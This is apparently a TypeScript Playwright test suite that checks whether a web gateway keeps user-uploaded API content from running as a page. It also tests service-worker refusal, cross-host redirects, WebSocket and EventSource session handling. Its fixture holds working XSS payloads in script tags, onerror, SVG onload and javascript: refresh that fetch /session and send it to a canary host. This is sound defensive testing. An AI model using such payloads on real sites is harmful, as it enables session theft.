import type { Browser, BrowserContext, Page } from 'playwright-core'
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import type { Upstream } from '../support/api/upstream.ts'
import { launchChromium } from '../support/browser/chromium.ts'
import { eventually } from '../support/eventually.ts'
import {
  type Canary,
  type RoutedGateway,
  startCanary,
  startRoutedGateway,
} from '../support/gateway/routed-gateway.ts'

let gateway: RoutedGateway
let api: Upstream
let canary: Canary
let chromium: Browser
let context: BrowserContext
let page: Page

beforeAll(async () => {
  ;[gateway, canary, chromium] = await Promise.all([startRoutedGateway(), startCanary(), launchChromium()])
  api = gateway.upstreams.get('/api') as Upstream
  for (const [path, { type, body }] of Object.entries(uploads(canary.host))) {
    api.on(`/v1/${path}`, (response) => {
      response.writeHead(200, type === undefined ? {} : { 'content-type': type }).end(body)
    })
  }
})
afterAll(async () => {
  await chromium?.close()
  await gateway?.stop()
  await canary?.stop()
})
beforeEach(async () => {
  context = await chromium.newContext({ baseURL: gateway.origin })
  const [name = '', value = ''] = gateway.cookie.split('=')
  await context.addCookies([{ name, value, url: gateway.origin, httpOnly: true, sameSite: 'Strict' }])
  page = await context.newPage()
  page.setDefaultTimeout(10_000)
  await page.goto('/welcome')
})
afterEach(() => context.close())

interface Uploaded {
  readonly type: string | undefined
  readonly body: string
}

/** What a malicious user may have stored in an API: each tries to act as the user who looks at it. */
function uploads(host: string): Readonly<Record<string, Uploaded>> {
  const attack = `fetch('/session').then((answer) => answer.text()).then((text) => { new Image().src = 'http://${host}/?' + encodeURIComponent(text) }); new Image().src = 'http://${host}/ran'; document.title = 'owned'; try { parent.document.title = 'owned' } catch {}`
  const html = `<!doctype html><title>upload</title><h1>upload</h1><script>${attack}</script><img src=x onerror="${attack.replaceAll('"', '&quot;')}"><meta http-equiv="refresh" content="1;url=javascript:${encodeURIComponent(attack)}"><form action="http://${host}/form" method="post"></form><script>document.forms[0].submit()</script>`
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="${attack.replaceAll('"', '&quot;').replaceAll('=>', '=&gt;')}"><title>upload</title><script>${attack.replaceAll('=>', '=&gt;')}</script></svg>`
  const xhtml = `<html xmlns="http://www.w3.org/1999/xhtml"><head><title>upload</title></head><body><script>${attack.replaceAll('=>', '=&gt;')}</script></body></html>`
  return {
    'page.html': { type: 'text/html; charset=utf-8', body: html },
    'page-in-capitals': { type: 'TEXT/HTML', body: html },
    'page-of-two-types': { type: 'text/plain, text/html', body: html },
    'page-with-blanks': { type: ' text/html ; x=y', body: html },
    'page.xhtml': { type: 'application/xhtml+xml', body: xhtml },
    'page.xml': { type: 'text/xml', body: xhtml },
    'page.atom': { type: 'application/atom+xml', body: xhtml },
    'picture.svg': { type: 'image/svg+xml', body: svg },
    'no-type': { type: undefined, body: html },
    'unknown-type': { type: 'application/unknown', body: html },
    'star-type': { type: '*/*', body: html },
    'empty-type': { type: '', body: html },
    'text.txt': { type: 'text/plain', body: html },
    'data.json': { type: 'application/json', body: html },
  }
}

/** A navigation that our own page begins, as a link does. */
async function follow(path: string): Promise<void> {
  await page.evaluate(
    `{ const link = document.createElement('a'); link.href = ${JSON.stringify(path)}; document.body.append(link); link.click() }`,
  )
  await page.waitForURL(`**${path}`)
  await page.waitForLoadState('load')
}

describe('what a user uploaded to an API, shown in Chromium', () => {
  test.each(Object.keys(uploads('canary')))('%s runs nothing as a page', async (name) => {
    const download = page.waitForEvent('download').then(() => true)
    // What Chromium downloads aborts the navigation.
    const isShown = follow(`/api/${name}`).then(
      () => true,
      () => download.then(() => false),
    )
    download.catch(() => undefined)
    if (await isShown) expect(await page.title()).not.toBe('owned')
    await page.goto('/welcome')
    await page.evaluate(
      `new Promise((resolve) => { const frame = document.createElement('iframe'); frame.src = ${JSON.stringify(`/api/${name}`)}; frame.onload = resolve; document.body.append(frame); setTimeout(resolve, 500) })`,
    )
    expect(await page.title()).toBe('Test application')
    expect(canary.hits()).toBe(0)
  })

  test('a service worker from an API is refused, also with a scope of its own', async () => {
    for (const path of ['/v1/worker.js', '/v1/deep/worker.js']) {
      api.on(path, (response) => {
        response
          .writeHead(200, { 'content-type': 'text/javascript', 'service-worker-allowed': '/' })
          .end("onfetch = (event) => event.respondWith(new Response('owned'))")
      })
    }
    for (const call of [
      "register('/api/worker.js')",
      "register('/api/worker.js', { scope: '/' })",
      "register('/api/deep/worker.js', { scope: '/api/' })",
      "register('/api/worker.js', { type: 'module' })",
    ]) {
      const outcome = await page.evaluate(
        `navigator.serviceWorker.${call}.then(() => 'registered', (error) => error.name)`,
      )
      expect([call, outcome]).toEqual([call, expect.stringMatching(/^(?:TypeError|SecurityError)$/)])
    }
    expect(gateway.arrivals().filter(({ request }) => request.target.includes('worker'))).toEqual([])
  })

  test('a redirect of an API to another host leads nowhere', async () => {
    api.on(
      '/v1/away',
      (response) => void response.writeHead(302, { location: `http://${canary.host}/` }).end(),
    )
    const status = await page.evaluate("fetch('/api/away').then((answer) => answer.status)")
    expect(status).toBe(502)
    await follow('/api/away')
    expect(await page.textContent('body')).toContain('upstream_redirect_refused')
    expect(canary.hits()).toBe(0)
  })
})

describe('a WebSocket of a page', () => {
  test('carries text and binary with its subprotocol, and is closed with 4401 when the session ends', async () => {
    api.onWebSocket((socket) => {
      socket.on('message', (data, isBinary) => socket.send(data, { binary: isBinary }))
    }, 'chat')
    const cookie = await gateway.signIn()
    const [name = '', value = ''] = cookie.split('=')
    await context.addCookies([{ name, value, url: gateway.origin, httpOnly: true, sameSite: 'Strict' }])
    const echoed = await page.evaluate(`new Promise((resolve, reject) => {
      const socket = (globalThis.socket = new WebSocket('/api/socket', ['other', 'chat']))
      socket.binaryType = 'arraybuffer'
      const seen = []
      globalThis.socketClosed = new Promise((done) => { socket.onclose = (event) => done({ code: event.code, atMs: performance.now() }) })
      socket.onopen = () => { socket.send('text'); socket.send(new Uint8Array([1, 2, 255])) }
      socket.onmessage = ({ data }) => {
        seen.push(typeof data === 'string' ? data : [...new Uint8Array(data)])
        if (seen.length === 2) resolve({ protocol: socket.protocol, seen })
      }
      socket.onerror = reject
    })`)
    expect(echoed).toEqual({ protocol: 'chat', seen: ['text', [1, 2, 255]] })
    const ended = (await page.evaluate(`(() => {
      const beganMs = performance.now()
      return fetch('/logout', { method: 'POST', headers: { accept: 'application/json' } }).then(() => globalThis.socketClosed).then(({ code, atMs }) => ({ code, tookMs: atMs - beganMs }))
    })()`)) as { code: number; tookMs: number }
    expect(ended.code).toBe(4401)
    expect(ended.tookMs).toBeLessThan(1_000)
  })

  test('that is refused fails before it opens, and a page of another site gets none', async () => {
    await context.clearCookies()
    const dial = (url: string) =>
      page.evaluate(
        `new Promise((resolve) => { const socket = new WebSocket(${JSON.stringify(url)}); socket.onopen = () => resolve('open'); socket.onclose = (event) => resolve(event.code) })`,
      )
    expect(await dial('/api/socket')).toBe(1006)
    await page.goto(`http://localhost:${gateway.port}/livez`)
    const arrived = gateway.arrivals().length
    expect(await dial(`ws://127.0.0.1:${gateway.port}/api/socket`)).toBe(1006)
    expect(gateway.arrivals()).toHaveLength(arrived)
  })
})

describe('an EventSource of a page', () => {
  test('gets events at once, connects again by itself, and ends with the session', async () => {
    let opened = 0
    api.on('/v1/events', (response) => {
      opened += 1
      response.writeHead(200, { 'content-type': 'text/event-stream' })
      response.write(`retry: 50\nid: ${opened}\ndata: ${opened}\n\n`)
      if (opened === 1) setTimeout(() => response.end(), 50)
    })
    const [name = '', value = ''] = (await gateway.signIn()).split('=')
    await context.addCookies([{ name, value, url: gateway.origin, httpOnly: true, sameSite: 'Strict' }])
    const seen = await page.evaluate(`new Promise((resolve) => {
      const source = (globalThis.source = new EventSource('/api/events'))
      const seen = []
      source.onmessage = ({ data }) => { seen.push(data); if (seen.length === 2) resolve(seen) }
    })`)
    expect(seen).toEqual(['1', '2'])
    await page.evaluate(
      "fetch('/logout', { method: 'POST', headers: { accept: 'application/json' } }).then((answer) => answer.status)",
    )
    await eventually(async () => expect(await page.evaluate('globalThis.source.readyState')).toBe(2), 3_000)
    expect(opened).toBe(2)
  })
})
